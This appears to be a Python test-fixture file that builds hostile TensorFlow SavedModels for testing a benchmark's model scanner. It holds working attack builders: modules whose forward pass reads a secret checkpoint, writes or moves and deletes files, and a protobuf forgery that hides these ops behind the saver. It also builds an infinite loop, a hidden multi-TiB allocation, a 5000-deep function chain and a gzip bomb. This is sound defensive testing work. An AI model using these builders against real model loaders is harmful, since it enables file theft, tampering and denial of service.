"""Hostile SavedModels, written the way an attacker would: with TensorFlow
and the protobuf only, never the project's export code.

Each builder returns the module folder. The sentinels (files a builder
names) prove what an attack did: a test asserts they are untouched after
the benchmark refused the module, and, as the oracle that the attack is
real, that a plain `tf.saved_model.load` without the scan does touch them.
"""

import gzip
import io
import os
import tarfile

import tensorflow as tf
from tensorflow.core.framework import node_def_pb2
from tensorflow.core.protobuf import saved_model_pb2

SPEC = tf.TensorSpec([None, 8, 8, 3], tf.float32)
SECRET = [[3.0, 1.0, 4.0, 1.0, 5.0, 9.0, 2.0, 6.0]]


def write_secret_checkpoint(prefix):
    """Writes a checkpoint at `prefix` holding the tensor "secret" (SECRET):
    what a hostile module would try to read off the disk."""
    tf.raw_ops.SaveV2(
        prefix=prefix,
        tensor_names=["secret"],
        shape_and_slices=[""],
        tensors=[tf.constant(SECRET)],
    )
    return prefix


def _save(path, call, **attributes):
    module = tf.Module()
    for name, value in attributes.items():
        setattr(module, name, value)
    module.__call__ = tf.function(call, input_signature=[SPEC])
    tf.saved_model.save(module, str(path))
    return str(path)


def _mean(images):
    return tf.reduce_mean(images, axis=[1, 2])


def _checkpoint_body(kind, target):
    """Returns (images -> features) that runs one checkpoint op on `target`:
    "read" returns the bytes of another checkpoint as features, "write"
    saves a file of any name, "write_v1" the same through Save (V1), and
    "move" merges another checkpoint away (its files moved, then deleted)."""

    def call(images):
        batch = tf.shape(images)[0:1]
        if kind == "read":
            secret = tf.raw_ops.RestoreV2(
                prefix=target,
                tensor_names=["secret"],
                shape_and_slices=[""],
                dtypes=[tf.float32],
            )[0]
            features = tf.tile(secret, tf.concat([batch, [1]], 0))
            return features + 0.0 * _mean(images)[:, :1]
        if kind == "write":
            op = tf.raw_ops.SaveV2(
                prefix=target,
                tensor_names=["x"],
                shape_and_slices=[""],
                tensors=[tf.constant([1.0])],
            )
        elif kind == "write_v1":
            op = tf.raw_ops.Save(
                filename=target, tensor_names=["x"], data=[tf.constant([1.0])]
            )
        else:
            op = tf.raw_ops.MergeV2Checkpoints(
                checkpoint_prefixes=[target],
                destination_prefix=target + "_moved",
                delete_old_dirs=True,
            )
        with tf.control_dependencies([op]):
            return tf.identity(_mean(images))

    return call


def checkpoint_op_module(path, kind, target):
    """A module whose __call__ runs a checkpoint op on `target` (see
    `_checkpoint_body`), with the saver TensorFlow wrote left alone."""
    return _save(path, _checkpoint_body(kind, target))


def forge_saver(path):
    """Rewrites the module at `path` so that its saver subgraph claims every
    library function: one graph node calling each and every node that calls
    one (the signatures') made control inputs of the save node. TensorFlow's
    loader never runs these nodes, so the module still loads and runs as
    before."""
    pb = os.path.join(path, "saved_model.pb")
    proto = saved_model_pb2.SavedModel()
    with open(pb, "rb") as f:
        proto.ParseFromString(f.read())
    meta = proto.meta_graphs[0]
    save_node = meta.saver_def.save_tensor_name.split(":")[0]
    node = next(n for n in meta.graph_def.node if n.name == save_node)
    names = {f.signature.name for f in meta.graph_def.library.function}
    callers = [
        n.name
        for n in meta.graph_def.node
        if n.name != save_node and ("f" in n.attr or n.op in names)
    ]
    for i, name in enumerate(sorted(names)):
        forged = node_def_pb2.NodeDef(name=f"forged_{i}", op="NoOp")
        forged.attr["f"].func.name = name
        meta.graph_def.node.append(forged)
        callers.append(forged.name)
    node.input.extend(f"^{name}" for name in callers)
    with open(pb, "wb") as f:
        f.write(proto.SerializeToString())
    return path


def forged_saver_module(path, kind, target):
    """The bypass: a checkpoint op in __call__, hidden behind a forged saver."""
    return forge_saver(checkpoint_op_module(path, kind, target))


def infinite_loop_module(path):
    """A module whose forward pass never ends (a while loop on a true
    condition, made of allowed ops)."""

    def call(images):
        count = tf.while_loop(lambda i: tf.constant(True), lambda i: i + 1, [0])[0]
        return _mean(images) + 0.0 * tf.cast(count, tf.float32)

    return _save(path, call)


def huge_allocation_module(path, tebibytes=4):
    """A module that asks for `tebibytes` TiB in its forward pass, its size
    computed from the input so no constant gives it away."""

    def call(images):
        n = tf.cast(tf.shape(images)[1], tf.int64) * (tebibytes << 37)
        zeros = tf.fill(tf.reshape(n, [1]), 0.0)
        return _mean(images) + tf.reduce_sum(zeros)

    return _save(path, call)


def deep_chain_module(path, depth=5000):
    """A module whose restore function (what a TF1 loader runs) is the head
    of a chain of `depth` functions, each calling the next; built in the
    protobuf (tracing one would hit Python's own recursion limit first)."""
    out = _save(path, lambda images: tf.identity(_mean(images)), v=tf.Variable(1.0))
    pb = os.path.join(out, "saved_model.pb")
    proto = saved_model_pb2.SavedModel()
    with open(pb, "rb") as f:
        proto.ParseFromString(f.read())
    library = proto.meta_graphs[0].graph_def.library
    restore = next(f for f in library.function if "traced_restore" in f.signature.name)
    previous = library.function.add()
    previous.signature.name = "chain_end"
    for i in range(depth):
        link = library.function.add()
        link.signature.name = f"chain_{i}"
        link.node_def.add(name="next", op=previous.signature.name)
        previous = link
    restore.node_def.add(name="into_chain", op=previous.signature.name)
    with open(pb, "wb") as f:
        f.write(proto.SerializeToString())
    return out


def gzip_bomb(path, gibibytes=2):
    """Writes a .tar.gz of a few MB holding saved_model.pb and a file of
    `gibibytes` GiB of zeros; returns its path."""

    class Zeros(io.RawIOBase):
        def __init__(self, size):
            self.left = size

        def readable(self):
            return True

        def readinto(self, buffer):
            n = min(len(buffer), self.left)
            buffer[:n] = bytes(n)
            self.left -= n
            return n

    size = gibibytes << 30
    with open(path, "wb") as raw:
        with gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=9) as gz:
            with tarfile.open(fileobj=gz, mode="w") as tar:
                pb = tarfile.TarInfo("saved_model.pb")
                pb.size = 0
                tar.addfile(pb, io.BytesIO())
                member = tarfile.TarInfo("variables/variables.data-00000-of-00001")
                member.size = size
                tar.addfile(member, io.BufferedReader(Zeros(size), 1 << 20))
    return str(path)
